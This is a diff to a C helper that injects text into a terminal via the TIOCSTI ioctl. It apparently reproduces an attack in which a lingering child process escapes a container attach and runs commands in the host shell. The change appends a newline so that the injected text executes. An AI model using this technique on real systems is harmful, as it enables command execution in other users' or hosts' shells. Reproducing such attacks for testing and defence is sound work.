@@ -12,7 +12,7 @@
  *   With DELAY_MS: forks a child that keeps fd 0, outlives the command (the attach returns
  *   meanwhile), injects TEXT after DELAY_MS and appends the result to LOG; the parent exits 0
  *   at once. This is how the real attack reaches the host shell after the attach has ended.
- * TEXT takes \n escapes.
+ * A newline is injected after TEXT, so that a shell reading the terminal runs it.
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -37,12 +37,9 @@ static int inject_fd(int fd, int shown, const char *text, FILE *out)
 	if (ttyname_r(fd, name, sizeof(name)) != 0)
 		snprintf(name, sizeof(name), "?");
 	int injected = 0, err = 0;
-	for (const char *p = text; *p; p++) {
-		char c = *p;
-		if (c == '\\' && p[1] == 'n') {
-			c = '\n';
-			p++;
-		}
+	size_t len = strlen(text);
+	for (size_t i = 0; i <= len; i++) {
+		char c = i < len ? text[i] : '\n';
 		if (ioctl(fd, TIOCSTI, &c) < 0) {
 			err = errno;
 			break;
